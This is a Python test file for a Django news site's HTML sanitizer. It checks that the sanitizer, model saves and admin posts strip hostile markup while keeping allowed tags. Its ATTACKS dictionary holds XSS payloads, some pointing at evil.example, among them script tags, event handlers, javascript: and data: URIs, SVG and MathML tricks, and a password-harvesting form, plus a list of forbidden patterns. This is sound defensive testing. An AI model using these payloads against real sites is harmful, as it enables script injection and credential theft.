"""Whatever is pasted into the editor, only the allowlist reaches a stored body."""

import pytest

from articles import roles
from articles.models import Article
from articles.sanitizer import sanitize_html
from tests.articles.test_admin_roles import ADD_URL, article_form
from tests.factories import ArticleFactory, CategoryFactory, UserFactory

ATTACKS = {
    "script": '<p>Bonjour</p><script>alert("x")</script>',
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Bonjour</p>",
    "onerror": '<p>Bonjour</p><img src="/media/editor/a.png" onerror="alert(1)">',
    "onclick": '<p onclick="alert(1)">Bonjour</p>',
    "javascript_link": '<p><a href="javascript:alert(1)">Bonjour</a></p>',
    "javascript_entity": '<p><a href="jav&#x09;ascript:alert(1)">Bonjour</a></p>',
    "style_attribute": '<p style="background:url(javascript:alert(1))">Bonjour</p>',
    "style_block": "<style>body{display:none}</style><p>Bonjour</p>",
    "svg": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'
    "<p>Bonjour</p>",
    "svg_onload": '<svg onload="alert(1)"></svg><p>Bonjour</p>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math><p>Bonjour</p>",
    "data_image": '<p>Bonjour</p><img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "data_link": '<p><a href="data:text/html,<script>alert(1)</script>">Bonjour</a></p>',
    "iframe_evil": '<p>Bonjour</p><iframe src="https://evil.example/embed"></iframe>',
    "iframe_http_youtube": '<p>Bonjour</p><iframe src="http://www.youtube.com/embed/x"></iframe>',
    "foreign_image": '<p>Bonjour</p><img src="https://evil.example/media/pixel.gif">',
    "media_traversal": '<p>Bonjour</p><img src="/media/../admin/">',
    "object": '<object data="https://evil.example/x.swf"></object><p>Bonjour</p>',
    "form": '<form action="https://evil.example"><input name="password"></form><p>Bonjour</p>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Bonjour</p>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>Bonjour</p>",
}
FORBIDDEN = [
    "<script", "onerror", "onclick", "onload", "javascript:", "style", "<svg", "<math",
    "data:", "evil.example", "<object", "<form", "<input", "<meta", "<!--", "http://www.youtube",
    "..",
]  # fmt: skip


def assert_safe(html):
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, f"{needle!r} survived in {html!r}"


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_removed_by_the_function(name):
    cleaned = sanitize_html(ATTACKS[name])
    assert_safe(cleaned)
    assert "Bonjour" in cleaned


@pytest.mark.django_db
@pytest.mark.parametrize("name", ATTACKS)
def test_attack_never_reaches_the_stored_body_on_model_save(name):
    article = ArticleFactory(body=ATTACKS[name])
    assert_safe(Article.objects.get(pk=article.pk).body)


@pytest.mark.django_db
def test_attacks_never_reach_the_stored_body_through_the_admin(client):
    client.force_login(UserFactory(role=roles.JOURNALIST))
    category = CategoryFactory()
    for i, (name, html) in enumerate(ATTACKS.items()):
        response = client.post(ADD_URL, article_form(category, title=f"Essai {i}", body=html))
        assert response.status_code == 302, name
        body = Article.objects.get(title=f"Essai {i}").body
        assert_safe(body)
        assert "Bonjour" in body


def test_empty_body_stays_empty():
    assert sanitize_html(None) == ""
    assert sanitize_html("  ") == ""


ALLOWED = (
    "<h2>Intertitre</h2><h3>Sous-titre</h3><h4>Détail</h4>"
    "<p>Du <strong>gras</strong>, de l’<em>italique</em> et un "
    '<a href="https://www.example.org/rapport">lien</a>.</p>'
    "<ul><li>un</li></ul><ol><li>deux</li></ol>"
    "<blockquote><p>Une citation.</p></blockquote>"
    '<figure><img src="/media/editor/2026/11/28/abc.jpg" alt="Le port" width="800" height="450">'
    "<figcaption>Le port de Cotonou</figcaption></figure>"
    "<table><thead><tr><th>Parti</th><th>Sièges</th></tr></thead>"
    "<tbody><tr><td>A</td><td>42</td></tr></tbody></table>"
    '<iframe src="https://www.youtube.com/embed/abc123" width="560" height="315"></iframe>'
)


def test_allowed_markup_survives():
    cleaned = sanitize_html(ALLOWED)
    for fragment in [
        "<h2>Intertitre</h2>",
        "<h3>Sous-titre</h3>",
        "<h4>Détail</h4>",
        "<strong>gras</strong>",
        "<em>italique</em>",
        '<a href="https://www.example.org/rapport" rel="noopener">lien</a>',
        "<ul><li>un</li></ul>",
        "<ol><li>deux</li></ol>",
        "<blockquote><p>Une citation.</p></blockquote>",
        'src="/media/editor/2026/11/28/abc.jpg"',
        'alt="Le port"',
        "<figcaption>Le port de Cotonou</figcaption>",
        "<th>Parti</th>",
        "<td>42</td>",
        'src="https://www.youtube.com/embed/abc123"',
        "sandbox=",
    ]:
        assert fragment in cleaned, fragment


def test_h1_and_h5_are_reduced_to_text():
    cleaned = sanitize_html("<h1>Titre</h1><h5>Petit</h5>")
    assert "<h1" not in cleaned and "<h5" not in cleaned
    assert "Titre" in cleaned and "Petit" in cleaned


@pytest.mark.django_db
def test_allowed_markup_survives_an_admin_save(client):
    client.force_login(UserFactory(role=roles.EDITOR))
    response = client.post(ADD_URL, article_form(CategoryFactory(), body=ALLOWED))
    assert response.status_code == 302
    body = Article.objects.get().body
    assert '<a href="https://www.example.org/rapport" rel="noopener">lien</a>' in body
    assert 'src="https://www.youtube.com/embed/abc123"' in body
    assert "<figcaption>Le port de Cotonou</figcaption>" in body
